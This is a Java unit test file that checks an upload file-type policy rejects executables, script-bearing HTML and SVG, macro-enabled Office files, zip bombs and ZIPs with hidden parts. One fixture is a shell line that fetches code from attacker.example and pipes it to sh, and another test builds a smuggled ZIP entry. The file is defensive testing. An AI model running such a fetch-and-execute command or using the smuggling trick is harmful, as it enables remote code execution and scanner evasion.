package jp.mamori.survey.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;

import org.junit.jupiter.api.Test;

/** The type comes from the bytes: every allowed type passes, everything else is refused as FILE_TYPE_NOT_ALLOWED. */
class FileTypePolicyTest {

    @Test
    void everyAllowedTypeIsRecognisedFromItsContent() {
        assertThat(FileTypePolicy.classify(SampleFiles.pdf())).isEqualTo(DocumentType.PDF);
        assertThat(FileTypePolicy.classify(SampleFiles.png())).isEqualTo(DocumentType.PNG);
        assertThat(FileTypePolicy.classify(SampleFiles.jpeg())).isEqualTo(DocumentType.JPEG);
        assertThat(FileTypePolicy.classify(SampleFiles.xlsx())).isEqualTo(DocumentType.XLSX);
        assertThat(FileTypePolicy.classify(SampleFiles.docx())).isEqualTo(DocumentType.DOCX);
        assertThat(FileTypePolicy.classify(SampleFiles.pptx())).isEqualTo(DocumentType.PPTX);
        assertThat(FileTypePolicy.classify(SampleFiles.vsdx())).isEqualTo(DocumentType.VSDX);
    }

    @Test
    void executablesAndScriptsAreRefusedWhateverTheirName() {
        byte[] elf = new byte[64];
        System.arraycopy(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, 0, elf, 0, 7);
        byte[] pe = new byte[256];
        pe[0] = 'M';
        pe[1] = 'Z';
        pe[0x3C] = (byte) 0x80;
        System.arraycopy("PE\0\0".getBytes(StandardCharsets.ISO_8859_1), 0, pe, 0x80, 4);
        assertRefused(elf, "内容から判定");
        assertRefused(pe, "内容から判定");
        assertRefused("#!/bin/sh\ncurl http://attacker.example/x | sh\n".getBytes(StandardCharsets.UTF_8), "内容から判定");
    }

    @Test
    void scriptableAndArchiveFormatsAreRefused() {
        assertRefused("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8), "text/html");
        assertRefused(("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")
                .getBytes(StandardCharsets.UTF_8), "image/svg+xml");
        assertRefused(SampleFiles.plainZip(), "ZIP");
        assertRefused(SampleFiles.xls(), "内容から判定");
    }

    @Test
    void macroEnabledOfficeFilesAreRefusedByContent() {
        assertRefused(SampleFiles.xlsm(), "マクロ");
        assertRefused(SampleFiles.xlsxWithHiddenVbaProject(), "マクロ");
        byte[] vsdm = SampleFiles.vsdx();
        var entries = SampleFiles.unzip(vsdm);
        entries.put("[Content_Types].xml", SampleFiles.VSDX_CONTENT_TYPES
                .replace("application/vnd.ms-visio.drawing.main+xml", "application/vnd.ms-visio.drawing.macroEnabled.main+xml")
                .getBytes(StandardCharsets.UTF_8));
        assertRefused(SampleFiles.zip(entries), "マクロ");
    }

    @Test
    void emptyTruncatedAndBrokenFilesAreRefused() {
        assertRefused(new byte[0], "空");
        assertRefused("%PD".getBytes(StandardCharsets.US_ASCII), "内容から判定");
        byte[] pdf = SampleFiles.pdf();
        assertRefused(Arrays.copyOf(pdf, pdf.length / 2), "%%EOF");
        byte[] xlsx = SampleFiles.xlsx();
        assertRefused(Arrays.copyOf(xlsx, xlsx.length - 40), "壊れて");
    }

    @Test
    void aZipBombIsRefusedAfterBoundedWork() {
        assertRefused(SampleFiles.zipBomb(), "ZIP爆弾");
    }

    @Test
    void aDocumentPartNamedButMissingIsBroken() {
        var entries = SampleFiles.unzip(SampleFiles.vsdx());
        entries.remove("visio/document.xml");
        assertRefused(SampleFiles.zip(entries), "壊れて");
    }

    @Test
    void aPartHiddenFromTheCentralDirectoryIsRefused() {
        // a local entry in front of a clean workbook: streaming readers see it, Office's central directory does not
        byte[] vba = SampleFiles.zip(Map.of("xl/hidden.bin", new byte[] {1, 2, 3}));
        int centralStart = java.nio.ByteBuffer.wrap(vba, vba.length - 6, 4).order(java.nio.ByteOrder.LITTLE_ENDIAN).getInt();
        byte[] xlsx = SampleFiles.xlsx();
        byte[] smuggled = new byte[centralStart + xlsx.length];
        System.arraycopy(vba, 0, smuggled, 0, centralStart);
        System.arraycopy(xlsx, 0, smuggled, centralStart, xlsx.length);

        assertRefused(smuggled, "不整合");
    }

    private static void assertRefused(byte[] file, String messagePart) {
        assertThatThrownBy(() -> FileTypePolicy.classify(file))
                .isInstanceOf(DocumentRefusedException.class)
                .hasMessageContaining(messagePart)
                .satisfies(e -> assertThat(((DocumentRefusedException) e).code()).isEqualTo("FILE_TYPE_NOT_ALLOWED"));
    }
}
